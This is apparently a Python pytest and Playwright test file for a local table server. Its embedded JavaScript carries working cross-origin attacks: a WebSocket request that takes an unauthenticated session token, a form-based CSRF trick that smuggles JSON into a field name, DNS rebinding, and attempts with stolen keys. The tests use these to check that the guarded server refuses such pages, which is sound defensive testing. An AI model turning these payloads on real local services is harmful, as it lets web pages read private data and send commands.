"""A page of another site, open in a real browser beside everything else: what it can do to a server on this machine."""

import http.server
import json
import threading
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from await_that import await_that
from tests.attacks.deephaven_calls import MULTIPLEX, NEW_SESSION
from tests.attacks.plain_deephaven import PlainDeephaven, read_without_login
from tests.attacks.stage import Attacked, Stage

STRANGER = "elsewhere.example"
_TAKE_A_SESSION = """
([url, path, protocol]) => new Promise((resolve, reject) => {
  const socket = new WebSocket(url, protocol);
  socket.binaryType = 'arraybuffer';
  const stream = [0, 0, 0, 1];
  let heard = '';
  socket.onopen = () => {
    const head = new TextEncoder().encode(`grpc-websockets-path:/${path}\\r\\nx-grpc-web:1\\r\\n`);
    socket.send(new Uint8Array([...stream, ...head]));
    socket.send(new Uint8Array([...stream, 0, 0, 0, 0, 0, 0]));
    socket.send(new Uint8Array([...stream, 1]));
  };
  socket.onmessage = (message) => {
    heard += new TextDecoder('latin1').decode(message.data);
    if (heard.includes('grpc-status')) resolve(heard);
  };
  socket.onerror = () => reject(new Error('no socket'));
})
"""
_TRY_EVERYTHING = """
async ([url, key]) => {
  const found = {};
  const attempt = async (name, what) => {
    try { found[name] = await what(); } catch (error) { found[name] = `failed: ${error}`; }
  };
  const headers = key ? {Authorization: `Bearer ${key}`} : {};
  const body = JSON.stringify({table: 'final_ui'});
  await attempt('fetch', async () => await (await fetch(`${url}/rows/final_ui`, {headers})).text());
  await attempt('health', async () => await (await fetch(`${url}/healthz`)).text());
  await attempt('post', async () => await (await fetch(`${url}/rows`, {method: 'POST', headers, body})).text());
  await attempt('no-cors', async () => await (await fetch(`${url}/rows/final_ui`, {mode: 'no-cors', headers})).text());
  const message = JSON.stringify({usersTopic: 'of-the-stranger', accountsTopic: 'accounts'});
  await attempt('act', async () =>
    (await fetch(`${url}/control/message`, {method: 'POST', mode: 'no-cors', headers, body: message})).status);
  for (const kind of ['script', 'img', 'iframe', 'link']) {
    await attempt(kind, () => new Promise((resolve, reject) => {
      const element = document.createElement(kind);
      if (kind === 'link') element.rel = 'stylesheet';
      element[kind === 'link' ? 'href' : 'src'] = `${url}/rows/final_ui`;
      element.onload = () => kind === 'iframe' ? resolve(element.contentDocument?.body?.innerText) : resolve('loaded');
      element.onerror = () => reject(new Error('refused'));
      document.body.append(element);
    }));
  }
  await attempt('form', () => new Promise((resolve) => {
    const target = document.createElement('iframe');
    target.name = 'target';
    target.onload = () => { try { resolve(target.contentDocument?.body?.innerText); } catch { resolve(null); } };
    const form = document.createElement('form');
    Object.assign(form, {method: 'post', action: `${url}/control/message`, enctype: 'text/plain', target: 'target'});
    const field = document.createElement('input');
    Object.assign(field, {name: message.slice(0, -1) + ', "x": "', value: '"}'});
    form.append(field);
    document.body.append(target, form);
    form.submit();
  }));
  await attempt('websocket', () => new Promise((resolve, reject) => {
    const socket = new WebSocket(url.replace('http', 'ws') + '/tables');
    socket.onopen = () => socket.send(JSON.stringify({do: 'login', key: key || 'guessed'}));
    socket.onmessage = (heard) => resolve(heard.data);
    socket.onerror = () => reject(new Error('no socket'));
  }));
  return found;
}
"""


class _Empty(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        """A page without anything of its own."""
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>elsewhere</title><body></body>")

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


@pytest.fixture
def elsewhere(browser: Browser) -> Iterator[Page]:
    """A page of another site, at another port and under a name of its own."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Empty)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    page = browser.new_page()
    page.goto(f"http://{STRANGER}:{server.server_address[1]}/")
    yield page
    page.close()
    server.shutdown()


def test_control_a_page_of_another_site_takes_a_session_that_reads_tables(
    control: PlainDeephaven, elsewhere: Page
) -> None:
    """Without a key, and without anybody doing more than to open the page."""
    url = f"ws://127.0.0.1:{control.port}/{NEW_SESSION}"
    heard: str = elsewhere.evaluate(_TAKE_A_SESSION, [url, NEW_SESSION, MULTIPLEX])

    token = heard[heard.index("Bearer ") :][: len("Bearer ") + 36]
    assert "of the control" in read_without_login(control.address, token.encode())


@pytest.mark.parametrize("name", ["127.0.0.1", STRANGER])
def test_control_without_the_guard_a_page_of_another_site_reads_rows(
    unguarded: Attacked, elsewhere: Page, name: str
) -> None:
    """With a key that was stolen: over a WebSocket from its own address, and by rebinding in every way."""
    if name == STRANGER:
        elsewhere.goto(f"http://{name}:{unguarded.port}/healthz")
    found = elsewhere.evaluate(_TRY_EVERYTHING, [f"http://{name}:{unguarded.port}", unguarded.viewer_key])

    assert "welcome" in found["websocket"]
    assert name != STRANGER or ("userId" in found["fetch"] and '"ok"' in found["health"])


@pytest.mark.parametrize("key", ["", "viewer", "operator"])
@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_at_the_door_a_page_of_another_site_reads_nothing_and_does_nothing(
    stage: Stage, elsewhere: Page, key: str, name: str
) -> None:
    """Not even with a key that was stolen: its browser is told to keep answers from it, and what acts is refused."""
    given = {"": "", "viewer": stage.viewer_key, "operator": stage.operator_key}[key]
    found = elsewhere.evaluate(_TRY_EVERYTHING, [f"http://{name}:{stage.port}", given])

    assert len(found) == 11
    told = json.dumps(found)
    for secret in ("userId", "person", "welcome", '"ok"', "loaded"):
        assert secret not in told, found
    assert _sent_control_messages(stage) == []


def test_at_the_door_a_name_that_leads_here_is_not_this_server(stage: Stage, elsewhere: Page) -> None:
    """By rebinding, a browser takes this server for the stranger's own; the server does not."""
    answer = elsewhere.goto(f"http://{STRANGER}:{stage.port}/healthz")
    assert answer
    assert answer.status == 421
    found = elsewhere.evaluate(_TRY_EVERYTHING, [f"http://{STRANGER}:{stage.port}", stage.operator_key])

    for secret in ("userId", "person", "welcome", '"ok"'):
        assert secret not in json.dumps(found), found
    assert _sent_control_messages(stage) == []


def test_the_page_of_the_server_itself_may(stage: Stage, browser: Browser) -> None:
    """The same attempts with the key, from where the page comes from: so it is the origin that is refused above."""
    page = browser.new_page()
    page.goto(f"http://127.0.0.1:{stage.port}/healthz")
    found = page.evaluate(_TRY_EVERYTHING, [f"http://127.0.0.1:{stage.port}", stage.viewer_key])
    page.close()

    assert "userId" in found["fetch"]
    assert "welcome" in found["websocket"]


def _sent_control_messages(stage: Stage) -> list[bytes]:
    """What of the stranger's has come to the control topic."""
    return [value for value in stage.control_messages() if b"of-the-stranger" in value]


def test_an_operator_s_own_page_can_act(stage: Stage) -> None:
    """What does not come from another site does get to the control topic, so that it is seen where it would be."""
    body = {"usersTopic": "of-the-operator", "accountsTopic": "accounts"}
    assert stage.ask("POST", "/control/message", key=stage.operator_key, body=body).status == 200
    await_that(lambda: any(b"of-the-operator" in value for value in stage.control_messages()))
    assert stage.ask("POST", "/control/message", key=stage.viewer_key, body=body).status == 403
